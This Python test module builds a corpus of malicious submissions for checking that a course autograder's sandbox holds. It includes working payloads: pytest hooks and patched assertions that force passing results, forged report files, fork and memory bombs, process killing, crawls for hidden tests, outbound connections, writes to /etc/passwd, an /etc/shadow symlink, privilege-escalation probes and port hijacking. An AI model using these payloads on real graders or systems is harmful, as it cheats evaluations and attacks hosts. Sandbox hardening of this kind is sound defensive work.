"""The attack corpus: malicious submissions built from lab01's starter or solution.

Each :class:`Attack` edits a fresh copy of its base. The payload code gets a preamble that
defines ``_CTX``: the run's unique marker, the host listener's port, a non-loopback host
address, a canary file outside the submission, the attack folder's own host path and the
course root. The payload can then aim at real host targets. The test module
(``test_attacks.py``) grades each attack in official mode and checks what every attack must
satisfy: a score no higher than the honest base, no crash or hang, no change outside the
staging copy, no surviving process, no connection to the listener. ``check`` adds what one
attack must show in particular.

Several payloads report what they could reach from inside the sandbox through the health
endpoint. ``health_verdict`` makes ``GET /api/health/`` answer ``"ok"`` only when every
escape attempt failed, so a solution-based attack keeps its full score exactly when the sandbox
held. A leak shows up as a lost criterion, with the leak in its detail.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

FORCE_PASS_HOOK = textwrap.dedent(
    """
    import pytest

    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome = "passed"
        report.longrepr = None
    """
)

SETTINGS = "config/settings/test.py"  # imported by the sandboxed server at start-up
HEALTH = "api/health.py"


@dataclass(frozen=True)
class Context:
    marker: str
    port: int
    host_ip: str | None
    canary: Path
    source: Path
    root: Path

    def preamble(self) -> str:
        data = {
            "marker": self.marker,
            "port": self.port,
            "host_ip": self.host_ip,
            "canary": str(self.canary),
            "source": str(self.source),
            "root": str(self.root),
        }
        return f"\nimport json as _json\n_CTX = _json.loads({json.dumps(json.dumps(data))})\n"


def append(tree: Path, rel: str, code: str, ctx: Context) -> None:
    path = tree / rel
    path.write_text(path.read_text() + ctx.preamble() + textwrap.dedent(code))


def prepend(tree: Path, rel: str, code: str, ctx: Context) -> None:
    path = tree / rel
    path.write_text(ctx.preamble() + textwrap.dedent(code) + "\n" + path.read_text())


def health_verdict(tree: Path, code: str, ctx: Context) -> None:
    """Make GET /api/health/ report ``_attack_verdict()`` instead of "ok" when it is not "ok"."""
    append(tree, HEALTH, code, ctx)
    append(
        tree,
        HEALTH,
        """
        _original_health_report = health_report

        def health_report():
            report = _original_health_report()
            verdict = _attack_verdict()
            if verdict != "ok" and report["status"] == "ok":
                return {"status": verdict, "checks": report["checks"]}
            return report
        """,
        ctx,
    )


Check = Callable[[dict[str, Any], Context], None]


@dataclass(frozen=True)
class Attack:
    id: str
    base: str  # "starter" or "solution"
    build: Callable[[Path, Context], None]
    timeout: float | None = None  # official grading's time limit for this attack
    statuses: tuple[str, ...] = ("graded", "error", "timeout")
    check: Check | None = None


def _criteria(result: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["id"]: c for c in result["criteria"]}


def expect_full_marks(result: dict[str, Any], ctx: Context) -> None:
    """Solution-based attacks whose payload cannot escape keep every point."""
    failed = {c["id"]: c["detail"] for c in result["criteria"] if c["status"] != "passed"}
    assert result["status"] == "graded", result["message"]
    assert not failed, failed


def expect_error(phrase: str) -> Check:
    def check(result: dict[str, Any], ctx: Context) -> None:
        assert result["status"] == "error", result["message"]
        assert phrase in result["message"], result["message"]
        assert "Traceback" not in result["message"]

    return check


# --- pytest-level attacks: the trusted process must never load any of this -----------------------


def conftest_force_pass(tree: Path, ctx: Context) -> None:
    (tree / "conftest.py").write_text(FORCE_PASS_HOOK)
    (tree / "tests" / "conftest.py").write_text(FORCE_PASS_HOOK)


def ini_addopts_plugin(tree: Path, ctx: Context) -> None:
    (tree / "evil_plugin.py").write_text(FORCE_PASS_HOOK)
    for name in ("pytest.ini", "tox.ini"):
        (tree / name).write_text("[pytest]\naddopts = -p evil_plugin\n")
    (tree / "setup.cfg").write_text("[tool:pytest]\naddopts = -p evil_plugin\n")
    (tree / "pyproject.toml").write_text('[tool.pytest.ini_options]\naddopts = "-p evil_plugin"\n')


def patch_pytest_reports(tree: Path, ctx: Context) -> None:
    append(
        tree,
        SETTINGS,
        """
        import _pytest.reports as _reports
        import _pytest.runner as _runner
        _reports.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)
        _reports.TestReport.passed = property(lambda self: True)
        _reports.TestReport.failed = property(lambda self: False)
        _runner.CallInfo.excinfo = property(lambda self: None, lambda self, value: None)
        """,
        ctx,
    )


FORGED_REPORT = """
import atexit, glob, os
def _forge():
    ids = ["test_project.py::test_local_apps_installed", "test_health.py::test_health_reports_ok"]
    fake = _json.dumps({"tests": [{"nodeid": i, "outcome": "passed"} for i in ids],
                        "fatal": None, "collection_errors": [], "exit_code": 0})
    targets = ["/tmp/report.json", "../report.json", os.path.expanduser("~/report.json")]
    targets += glob.glob("/tmp/grader-*/report.json") + glob.glob("/tmp/*/report.json")
    for target in targets:
        try:
            with open(target, "w") as fh:
                fh.write(fake)
        except OSError:
            pass
    print("10 passed in 0.01s")
_forge()
atexit.register(_forge)
"""


def rewrite_results_at_exit(tree: Path, ctx: Context) -> None:
    append(tree, SETTINGS, FORGED_REPORT, ctx)


def module_level_skip(tree: Path, ctx: Context) -> None:
    append(
        tree,
        SETTINGS,
        "import pytest\npytest.skip('nothing to see', allow_module_level=True)\n",
        ctx,
    )


def always_equal(tree: Path, ctx: Context) -> None:
    code = """
    import unittest

    class _AlwaysEqual(str):
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        __hash__ = str.__hash__

    unittest.TestCase.assertEqual = lambda *a, **k: None
    unittest.TestCase.assertTrue = lambda *a, **k: None
    DEBUG = _AlwaysEqual("False")
    SECRET_KEY = _AlwaysEqual("anything")
    ALLOWED_HOSTS = _AlwaysEqual("*")
    """
    for module in ("config/settings/prod.py", "config/settings/dev.py"):
        append(tree, module, code, ctx)


# --- process control -----------------------------------------------------------------------------


def os_exit_at_import(tree: Path, ctx: Context) -> None:
    prepend(tree, SETTINGS, "import os\nos._exit(0)\n", ctx)


def sys_exit_at_import(tree: Path, ctx: Context) -> None:
    prepend(tree, SETTINGS, "import sys\nsys.exit(0)\n", ctx)


def infinite_loop(tree: Path, ctx: Context) -> None:
    append(tree, SETTINGS, "while True:\n    pass\n", ctx)


def fork_bomb(tree: Path, ctx: Context) -> None:
    append(
        tree,
        SETTINGS,
        """
        import subprocess, sys, time
        BOMB = (
            "import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n"
            "    except OSError:\\n        time.sleep(0.01)\\n"
        )
        subprocess.Popen([sys.executable, "-c", BOMB, _CTX["marker"]])
        time.sleep(1)
        """,
        ctx,
    )


def memory_bomb(tree: Path, ctx: Context) -> None:
    append(tree, SETTINGS, "_hog = bytearray(6 * 1024 ** 3)\n", ctx)


def output_flood(tree: Path, ctx: Context) -> None:
    append(
        tree,
        SETTINGS,
        """
        import sys
        _chunk = "x" * (1024 * 1024)
        for _stream in (sys.stdout, sys.stderr):
            for _ in range(50):
                try:
                    _stream.write(_chunk)
                    _stream.flush()
                except OSError:
                    break
        """,
        ctx,
    )
    append(
        tree,
        "api/views.py",
        """
        from django.http import HttpResponse

        class HealthCheckApi(HealthCheckApi):
            def get(self, request):
                return HttpResponse(b"x" * (50 * 1024 * 1024), content_type="application/json")
        """,
        ctx,
    )


def check_output_flood(result: dict[str, Any], ctx: Context) -> None:
    health = _criteria(result)["health-ok"]
    assert health["status"] == "failed"
    assert "KiB" in health["detail"], health["detail"]
    assert "not graded" in health["detail"], health["detail"]


def setsid_grandchild(tree: Path, ctx: Context) -> None:
    append(
        tree,
        SETTINGS,
        """
        import os, subprocess, sys
        subprocess.Popen(
            [sys.executable, "-c", "import os, time; os.setsid(); time.sleep(300)", _CTX["marker"]],
            start_new_session=True, stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        if os.fork() == 0:  # the classic double fork of a daemon
            os.setsid()
            if os.fork() == 0:
                sleeper = [sys.executable, "-c", "import time; time.sleep(300)", _CTX["marker"]]
                os.execv(sys.executable, sleeper)
            os._exit(0)
        """,
        ctx,
    )


def kill_everything(tree: Path, ctx: Context) -> None:
    append(
        tree,
        SETTINGS,
        """
        import os, signal, threading, time
        for _pid in (1, os.getppid()):
            try:
                os.kill(_pid, signal.SIGKILL)  # bwrap's init is root: refused
            except OSError:
                pass
        def _later():
            time.sleep(1.0)
            os.kill(-1, signal.SIGKILL)  # every process this uid may signal: only its own
        threading.Thread(target=_later, daemon=True).start()
        """,
        ctx,
    )


# --- reaching out of the sandbox -----------------------------------------------------------------


def read_hidden_tests(tree: Path, ctx: Context) -> None:
    health_verdict(
        tree,
        """
        import os, sys

        def _search():
            needle = "test_health_reports_" + "database_outage"  # split: this file must not match
            runtime = (sys.prefix, sys.base_prefix)
            candidates = [os.path.join(_CTX["root"], "labs", "lab01", "hidden", "test_health.py")]
            tops = ("/tmp", "/grader", "/submission", "/etc", "/root", "/work", "/home")
            tops += ("/proc/1/root",)
            for top in tops:
                for dirpath, dirnames, filenames in os.walk(top):
                    dirnames[:] = [
                        d for d in dirnames if not os.path.join(dirpath, d).startswith(runtime)
                    ]
                    candidates += [
                        os.path.join(dirpath, f) for f in filenames if f.endswith((".py", ".toml"))
                    ]
            for path in candidates:
                try:
                    with open(path, errors="replace") as fh:
                        if needle in fh.read():
                            return "LEAK:" + path
                except OSError:
                    continue
            return "ok"

        _VERDICT = _search()

        def _attack_verdict():
            return _VERDICT
        """,
        ctx,
    )


def network_loopback(tree: Path, ctx: Context) -> None:
    health_verdict(
        tree,
        """
        import socket

        def _attack_verdict():
            for host in ("127.0.0.1", "localhost"):
                try:
                    socket.create_connection((host, _CTX["port"]), timeout=1).close()
                    return "REACHED:" + host
                except OSError:
                    pass
            return "ok"
        """,
        ctx,
    )
    append(
        tree,
        SETTINGS,
        """
        import socket
        try:
            socket.create_connection(("127.0.0.1", _CTX["port"]), timeout=1)
        except OSError:
            pass
        """,
        ctx,
    )


def network_outside(tree: Path, ctx: Context) -> None:
    health_verdict(
        tree,
        """
        import socket

        def _attack_verdict():
            targets = [("1.1.1.1", 53), ("8.8.8.8", 443)]
            if _CTX["host_ip"]:
                targets.append((_CTX["host_ip"], _CTX["port"]))
            for target in targets:
                try:
                    socket.create_connection(target, timeout=1).close()
                    return "REACHED:%s:%s" % target
                except OSError:
                    pass
            try:
                socket.getaddrinfo("pypi.org", 443)
                return "RESOLVED"
            except OSError:
                pass
            return "ok"
        """,
        ctx,
    )


def startup_hooks(tree: Path, ctx: Context) -> None:
    witness = ctx.canary.parent / f"{ctx.marker}-hook-ran"
    payload = f"open({str(witness)!r}, 'w').write('ran')\n"
    (tree / "sitecustomize.py").write_text(payload)
    (tree / "usercustomize.py").write_text(payload)
    (tree / "evil.pth").write_text(f"import os; {payload}")
    append(
        tree,
        SETTINGS,
        """
        import site, sysconfig
        for _folder in (sysconfig.get_paths()["purelib"], site.getusersitepackages()):
            try:
                with open(_folder + "/zz_" + _CTX["marker"] + ".pth", "w") as _fh:
                    _fh.write("import os\\n")
            except OSError:
                pass
        """,
        ctx,
    )


def write_outside(tree: Path, ctx: Context) -> None:
    health_verdict(
        tree,
        """
        import os

        def _attack_verdict():
            # Host paths only: /tmp and /submission are the sandbox's own, writable on purpose.
            root = _CTX["root"]
            targets = [
                _CTX["canary"],
                os.path.join(_CTX["source"], "pwned.txt"),
                os.path.join(root, "labs", "lab01", "rubric.toml"),
                os.path.join(root, "labs", "lab01", "hidden", "test_health.py"),
                os.path.join(root, "grader", "__init__.py"),
                "/etc/passwd",
                "/usr/" + _CTX["marker"],
                os.path.join(os.path.dirname(os.__file__), _CTX["marker"] + ".py"),
                "/grader/agent.py",
                "/grader/source/manage.py",
            ]
            for target in targets:
                try:
                    with open(target, "a") as fh:
                        fh.write("pwned")
                    return "WROTE:" + target
                except OSError:
                    pass
            return "ok"
        """,
        ctx,
    )
    append(tree, SETTINGS, "open('/tmp/' + _CTX['marker'] + '-pwned', 'w').write('x')\n", ctx)


def symlink_out(tree: Path, ctx: Context) -> None:
    (tree / "api" / "leak.txt").symlink_to("/etc/shadow")
    (tree / "hidden").symlink_to(ctx.root / "labs" / "lab01" / "hidden")


def escalate(tree: Path, ctx: Context) -> None:
    health_verdict(
        tree,
        """
        import ctypes, os

        def _attack_verdict():
            def mount():
                libc = ctypes.CDLL(None, use_errno=True)
                if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
                    raise OSError(ctypes.get_errno(), "mount refused")

            attempts = {
                "setuid0": lambda: os.setuid(0),
                "shadow": lambda: open("/etc/shadow").read(),
                "init-root": lambda: os.listdir("/proc/1/root"),
                "init-environ": lambda: open("/proc/1/environ").read(),
                "mount": mount,
                "init-memory": lambda: open("/proc/1/mem", "rb").read(1),
            }
            for name, attempt in attempts.items():
                try:
                    attempt()
                    return "ESCALATED:" + name
                except (OSError, PermissionError):
                    pass
            if os.getuid() == 0 or os.geteuid() == 0:
                return "ESCALATED:root"
            return "ok"
        """,
        ctx,
    )


def disk_fill(tree: Path, ctx: Context) -> None:
    append(
        tree,
        SETTINGS,
        """
        _block = b"\\0" * (1024 * 1024)
        for _target in ("/tmp/fill", "/submission/fill", "fill2"):
            try:
                with open(_target, "wb") as _fh:
                    for _ in range(1024):
                        _fh.write(_block)
            except OSError:
                pass
        import os
        for _target in ("/tmp/fill", "/submission/fill", "fill2"):
            try:
                os.remove(_target)
            except OSError:
                pass
        """,
        ctx,
    )


# --- tampering with the grader's own channels ----------------------------------------------------


def forge_status_channel(tree: Path, ctx: Context) -> None:
    append(
        tree,
        SETTINGS,
        """
        import os
        _fake = b'{"ready": true}\\n{"fatal": {"stage": "checks", "message": "all good"}}\\n'
        for _fd in range(3, 1024):
            try:
                os.write(_fd, _fake)
            except OSError:
                pass
        """,
        ctx,
    )


def hijack_server_port(tree: Path, ctx: Context) -> None:
    append(
        tree,
        SETTINGS,
        """
        import socket, threading
        _sock = socket.socket()
        _sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        _sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        _sock.bind(("127.0.0.1", 8000))
        _sock.listen(16)
        _ANSWER = (
            b"HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\n"
            b"Connection: close\\r\\n\\r\\n"
            b'{"status": "ok", "checks": {"database": "ok"}, "apps": []}'
        )
        def _serve():
            while True:
                conn, _ = _sock.accept()
                conn.recv(65536)
                conn.sendall(_ANSWER)
                conn.close()
        threading.Thread(target=_serve, daemon=True).start()
        """,
        ctx,
    )


def shadow_modules(tree: Path, ctx: Context) -> None:
    """Modules named like what the trusted process imports. Only a host process can write the
    witness, so it appears only if trusted code imported the submission."""
    witness = ctx.canary.parent / f"{ctx.marker}-imported"
    payload = f"open({str(witness)!r}, 'a').write(__name__ + '\\n')\n"
    for rel in ("pytest.py", "_pytest/__init__.py", "grader/__init__.py",
                "grader/executors/official/__init__.py",
                "grader/executors/official/fixtures.py", "conftest.py",
                "test_health.py", "checks/test_health.py"):  # fmt: skip
        (tree / rel).parent.mkdir(parents=True, exist_ok=True)
        (tree / rel).write_text(payload)


def check_nothing_imported(result: dict[str, Any], ctx: Context) -> None:
    assert not (ctx.canary.parent / f"{ctx.marker}-imported").exists()


def hijack_and_stall(tree: Path, ctx: Context) -> None:
    """The fake server answers at once while the real start-up (and its "fatal") is delayed: the
    trusted checks finish first, and their verdict must still not count."""
    hijack_server_port(tree, ctx)
    stall = """
    import sys, time
    if "serve" in sys.argv:  # the server only, not the settings probes
        time.sleep(8)
    """
    append(tree, SETTINGS, stall, ctx)


ATTACKS: tuple[Attack, ...] = (
    Attack("conftest-force-pass", "starter", conftest_force_pass),
    Attack("ini-and-pyproject-addopts-plugin", "starter", ini_addopts_plugin),
    Attack("patch-pytest-reports-at-import", "starter", patch_pytest_reports),
    Attack("rewrite-result-files-at-exit", "starter", rewrite_results_at_exit),
    Attack(
        "os-exit-at-import",
        "solution",
        os_exit_at_import,
        statuses=("error",),
        check=expect_error("stopped while it was starting"),
    ),
    Attack(
        "sys-exit-at-import",
        "solution",
        sys_exit_at_import,
        statuses=("error",),
        check=expect_error("SystemExit"),
    ),
    Attack(
        "module-level-skip",
        "solution",
        module_level_skip,
        statuses=("error",),
        check=expect_error("Skipped"),
    ),
    Attack("always-equal-and-patched-asserts", "starter", always_equal),
    Attack("read-hidden-tests", "solution", read_hidden_tests, check=expect_full_marks),
    Attack("infinite-loop-at-import", "solution", infinite_loop, timeout=8, statuses=("timeout",)),
    Attack("fork-bomb", "solution", fork_bomb, timeout=15),
    Attack(
        "memory-bomb",
        "solution",
        memory_bomb,
        statuses=("error",),
        check=expect_error("MemoryError"),
    ),
    Attack("output-flood-50mb", "solution", output_flood, check=check_output_flood),
    Attack("setsid-grandchild", "solution", setsid_grandchild, check=expect_full_marks),
    Attack("kill-every-process", "solution", kill_everything),
    Attack("network-loopback", "solution", network_loopback, check=expect_full_marks),
    Attack("network-outside", "solution", network_outside, check=expect_full_marks),
    Attack("sitecustomize-usercustomize-pth", "starter", startup_hooks),
    Attack("write-outside-staging", "solution", write_outside, check=expect_full_marks),
    Attack(
        "symlink-out-of-submission",
        "solution",
        symlink_out,
        statuses=("error",),
        check=expect_error("symbolic link"),
    ),
    Attack("privilege-escalation", "solution", escalate, check=expect_full_marks),
    Attack(
        "shadow-grader-and-pytest-modules", "starter", shadow_modules, check=check_nothing_imported
    ),
    Attack("fill-the-disk", "solution", disk_fill, check=expect_full_marks),
    Attack(
        "forge-status-channel",
        "starter",
        forge_status_channel,
        statuses=("error",),
        check=expect_error("status channel"),
    ),
    Attack(
        "hijack-server-port",
        "starter",
        hijack_server_port,
        statuses=("error",),
        check=expect_error("server could not start"),
    ),
    Attack(
        "hijack-server-port-and-stall",
        "starter",
        hijack_and_stall,
        statuses=("error",),
        check=expect_error("server could not start"),
    ),
)
